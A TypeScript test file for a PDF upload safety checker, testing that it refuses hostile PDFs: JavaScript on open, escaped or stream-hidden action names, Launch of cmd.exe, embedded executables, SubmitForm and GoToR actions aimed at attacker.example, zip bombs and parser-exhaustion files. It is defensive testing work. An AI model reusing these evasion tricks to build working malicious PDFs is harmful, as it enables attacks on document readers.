import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import { describe, expect, it } from "vitest";
import { AppError } from "@/lib/errors";
import { assertSafePdf } from "@/lib/server/materials/assert-safe-pdf";
import { readPdfStructure } from "@/lib/server/materials/read-pdf-structure";
import { PDF_INFLATE_BUDGET, scanPdfActiveContent } from "@/lib/server/materials/scan-pdf-active-content";
import { sniffContent } from "@/lib/server/materials/sniff-content";
import { openActionJsPdf, pdfWithObjectStream, plainPdf, rewrite, rewriteObjectStreams } from "./pdf-helpers";

async function refusal(bytes: Uint8Array): Promise<string> {
  const err = await assertSafePdf(bytes).then(() => null, (e: unknown) => e);
  expect(err).toBeInstanceOf(AppError);
  expect((err as AppError).code).toBe("validation_failed");
  return (err as AppError).fields!.file![0]!;
}

const hasText = (bytes: Uint8Array, s: string) => Buffer.from(bytes).toString("latin1").includes(s);

describe("PDF active content", () => {
  it("accepts a plain PDF, with or without object streams", async () => {
    for (const bytes of [await plainPdf(), await plainPdf({ objectStreams: false })]) {
      expect(sniffContent(bytes)?.mime).toBe("application/pdf");
      expect(scanPdfActiveContent(bytes)).toEqual({ active: [], encrypted: false });
      await expect(assertSafePdf(bytes)).resolves.toBeUndefined();
    }
  });

  it("refuses an /OpenAction that runs JavaScript, found by both readers", async () => {
    const bytes = await openActionJsPdf();
    expect(scanPdfActiveContent(bytes).active).toEqual(expect.arrayContaining(["OpenAction", "JavaScript", "JS"]));
    const structure = await readPdfStructure(bytes);
    expect(structure.ok && structure.names).toEqual(expect.arrayContaining(["OpenAction", "JavaScript", "JS"]));
    expect(await refusal(bytes)).toBe("materials.errors.pdfActive");
  });

  it("decodes #xx escapes in names, upper and lower case", async () => {
    const escaped = rewrite(await openActionJsPdf(), (t) => t.replace("/OpenAction", "/Open#41ction").replace("/JavaScript", "/Java#53cript").replace("/JS ", "/#4a#53 "));
    expect(hasText(escaped, "/OpenAction")).toBe(false);
    expect(hasText(escaped, "/JavaScript")).toBe(false);
    expect(scanPdfActiveContent(escaped).active).toEqual(expect.arrayContaining(["OpenAction", "JavaScript", "JS"]));
    expect(await refusal(escaped)).toBe("materials.errors.pdfActive");
  });

  it("finds the action inside a compressed object stream", async () => {
    const bytes = await openActionJsPdf({ objectStreams: true });
    expect(hasText(bytes, "/ObjStm")).toBe(true);
    expect(hasText(bytes, "OpenAction")).toBe(false); // only in the deflated stream
    expect(scanPdfActiveContent(bytes).active).toEqual(expect.arrayContaining(["OpenAction", "JavaScript"]));
    expect(await refusal(bytes)).toBe("materials.errors.pdfActive");
  });

  it("finds escaped names in an object stream, and object streams that do not say /Type /ObjStm", async () => {
    const base = await openActionJsPdf({ objectStreams: true });
    const escaped = rewriteObjectStreams(base, (c) => c.replace("/JavaScript", "/Java#53cript").replace("/OpenAction", "/#4fpen#41ction"));
    expect(scanPdfActiveContent(escaped).active).toEqual(expect.arrayContaining(["OpenAction", "JavaScript"]));
    expect(await refusal(escaped)).toBe("materials.errors.pdfActive");
    // Readers unpack any stream with /N and /First: dropping /Type hides nothing.
    const untyped = rewriteObjectStreams(base, (c) => c, (d) => d.replace(/\/Type\s*\/ObjStm/, ""));
    expect(hasText(untyped, "ObjStm")).toBe(false);
    expect(scanPdfActiveContent(untyped).active).toContain("JavaScript");
  });

  it("reads object stream dictionaries the way viewers do, and refuses ones it cannot read the same way", async () => {
    const hidden = deflateSync(Buffer.from("5 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>"));
    // A stray token where a key belongs: viewers skip it and still see /N, /First and /Filter.
    expect(scanPdfActiveContent(pdfWithObjectStream("5 /N 1 /First 4 /Filter /FlateDecode", hidden)).active).toEqual(expect.arrayContaining(["JavaScript", "JS"]));
    // A dictionary that does not parse cleanly here, or names a filter it does not apply: refused, not skipped.
    expect(await refusal(pdfWithObjectStream("/Type /ObjStm /N 1 /First 4 endobj /Filter /FlateDecode", hidden))).toBe("materials.errors.pdfUnsupported");
    expect(await refusal(pdfWithObjectStream("/Type /ObjStm obj /N 1 /First 4 /Filter /FlateDecode", hidden))).toBe("materials.errors.pdfUnsupported");
    expect(await refusal(pdfWithObjectStream("/Type /ObjStm /N 1 /First 4 /X [ /Filter /FlateDecode ]", hidden))).toBe("materials.errors.pdfUnsupported");
    expect(await refusal(pdfWithObjectStream("/Type /ObjStm /N 1 /First 4 /Filter [ /FlateDecode /A85 ]", hidden))).toBe("materials.errors.pdfUnsupported");
  });

  it("refuses Launch, embedded files, XFA, SubmitForm and remote go-to actions", async () => {
    const doc = await PDFDocument.create();
    doc.addPage([200, 200]);
    await doc.attach(new TextEncoder().encode("MZ..."), "invoice.exe", { mimeType: "application/octet-stream" });
    expect(scanPdfActiveContent(await doc.save()).active).toEqual(expect.arrayContaining(["EmbeddedFile", "EmbeddedFiles"]));
    for (const [key, action] of [
      ["Launch", { S: "Launch", F: PDFString.of("cmd.exe") }],
      ["GoToR", { S: "GoToR", F: PDFString.of("\\\\attacker.example\\share\\x.pdf"), D: [0, "Fit"] }],
      ["SubmitForm", { S: "SubmitForm", F: PDFString.of("https://attacker.example/collect") }],
    ] as const) {
      const d = await PDFDocument.create();
      const page = d.addPage([200, 200]);
      page.node.set(PDFName.of("AA"), d.context.obj({ O: d.context.obj(action) }));
      const bytes = await d.save();
      expect(scanPdfActiveContent(bytes).active).toEqual(expect.arrayContaining(["AA", key]));
      expect(await refusal(bytes)).toBe("materials.errors.pdfActive");
    }
    const xfa = await PDFDocument.create();
    xfa.addPage([200, 200]);
    xfa.catalog.set(PDFName.of("AcroForm"), xfa.context.obj({ Fields: [], XFA: PDFString.of("<xdp/>") }));
    expect(await refusal(await xfa.save())).toBe("materials.errors.pdfActive");
  });

  it("accepts an /OpenAction that only opens a page (what LaTeX writes)", async () => {
    const doc = await PDFDocument.create();
    const page = doc.addPage([200, 200]);
    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj([page.ref, "Fit"]));
    for (const bytes of [await doc.save(), await doc.save({ useObjectStreams: false })]) {
      expect(scanPdfActiveContent(bytes).active).toEqual([]);
      await expect(assertSafePdf(bytes)).resolves.toBeUndefined();
    }
  });

  it("accepts a GoTo action to a page on open, by reference and in an object stream (what LaTeX hyperref writes)", async () => {
    const doc = await PDFDocument.create();
    const page = doc.addPage([200, 200]);
    const goto = doc.context.register(doc.context.obj({ S: "GoTo", D: [page.ref, "Fit"] }));
    doc.catalog.set(PDFName.of("OpenAction"), goto);
    for (const bytes of [await doc.save(), await doc.save({ useObjectStreams: false })]) {
      expect(scanPdfActiveContent(bytes).active).toEqual([]);
      await expect(assertSafePdf(bytes)).resolves.toBeUndefined();
    }
  });

  it("refuses any other action on open: a URL, or a GoTo with more actions chained", async () => {
    for (const action of [{ S: "URI", URI: PDFString.of("https://attacker.example/opened") }, { S: "GoTo", D: [0, "Fit"], Next: { S: "URI", URI: PDFString.of("https://attacker.example/") } }]) {
      const doc = await PDFDocument.create();
      doc.addPage([200, 200]);
      doc.catalog.set(PDFName.of("OpenAction"), doc.context.register(doc.context.obj(action)));
      for (const bytes of [await doc.save(), await doc.save({ useObjectStreams: false })]) {
        expect(scanPdfActiveContent(bytes).active).toEqual(["OpenAction"]);
        expect(await refusal(bytes)).toBe("materials.errors.pdfActive");
      }
    }
  });

  it("ignores the same letters inside strings and compressed page content", async () => {
    const doc = await PDFDocument.create();
    doc.addPage([300, 200]).drawText("/JavaScript /OpenAction /JS");
    doc.setTitle("/JavaScript guide");
    const bytes = await doc.save();
    expect(scanPdfActiveContent(bytes).active).toEqual([]);
  });

  it("refuses an object stream that unpacks past the budget (a zip bomb) without unpacking it all", () => {
    const bomb = deflateSync(Buffer.alloc(PDF_INFLATE_BUDGET + 1024 * 1024, 0x20));
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const bytes = pdfWithObjectStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb);
    expect(() => scanPdfActiveContent(bytes)).toThrow(/budget/);
  });

  it("refuses object streams it cannot read (other filters, predictors) instead of skipping them", async () => {
    const lzw = pdfWithObjectStream("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", new Uint8Array([0x80, 0x0b, 0x60, 0x50]));
    expect(await refusal(lzw)).toBe("materials.errors.pdfUnsupported");
    const predictor = pdfWithObjectStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", deflateSync(Buffer.from("1 0 << >>")));
    expect(await refusal(predictor)).toBe("materials.errors.pdfUnsupported");
    const deep = rewrite(await plainPdf({ objectStreams: false }), (t) => t.replace("%%EOF", `${"[".repeat(10_000)}\n%%EOF`));
    expect(await refusal(deep)).toBe("materials.errors.pdfUnsupported");
  });

  it("keeps memory bounded on files built to exhaust a parser, refusing them", async () => {
    const page = "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R >> endobj\n";
    const tail = `${page}trailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`;
    // 200,000 distinct names (documents use hundreds): refused by the scan before pdf-lib reads them.
    const names = new TextEncoder().encode(`%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R ${Array.from({ length: 200_000 }, (_, i) => `/n${i} 1`).join(" ")} >> endobj\n${tail}`);
    expect(await refusal(names)).toBe("materials.errors.pdfUnsupported");
    // Five million numbers in one array (10 MB): the scan keeps none of them; pdf-lib, which
    // would, runs out of its worker's heap. Four at once: at most two workers, each capped.
    const numbers = new TextEncoder().encode(`%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /X [${"1 ".repeat(5_000_000)}] >> endobj\n${tail}`);
    const heapBefore = process.memoryUsage().heapUsed;
    expect(scanPdfActiveContent(numbers)).toEqual({ active: [], encrypted: false });
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(100 * 1024 * 1024);
    const rssBefore = process.memoryUsage().rss;
    let peak = 0;
    const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss - rssBefore)), 5);
    const results = await Promise.all([1, 2, 3, 4].map(() => refusal(numbers)));
    clearInterval(timer);
    expect(results).toEqual(Array(4).fill("materials.errors.pdfUnsupported"));
    expect(peak).toBeLessThan(600 * 1024 * 1024);
  });

  it("refuses encrypted PDFs and PDFs that do not parse", async () => {
    const encrypted = rewrite(await plainPdf({ objectStreams: false }), (t) => t.replace("trailer\n<<", "trailer\n<< /Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"));
    expect(await refusal(encrypted)).toBe("materials.errors.pdfEncrypted");
    // The object stream holding the catalog is damaged: nothing in it can be checked.
    const damaged = rewriteObjectStreams(await plainPdf(), (c) => c).map((b, i, all) => (i > all.length / 3 && i < all.length / 3 + 40 ? 0x41 : b));
    expect(sniffContent(damaged)?.mime).toBe("application/pdf");
    expect(await refusal(damaged)).toBe("materials.errors.pdfBroken");
    // Looks like a PDF from both ends, holds no objects.
    const hollow = new TextEncoder().encode(`%PDF-1.7\n${"x".repeat(500)}\nstartxref\n0\n%%EOF\n`);
    expect(sniffContent(hollow)?.mime).toBe("application/pdf");
    expect(await refusal(hollow)).toBe("materials.errors.pdfBroken");
  });
});
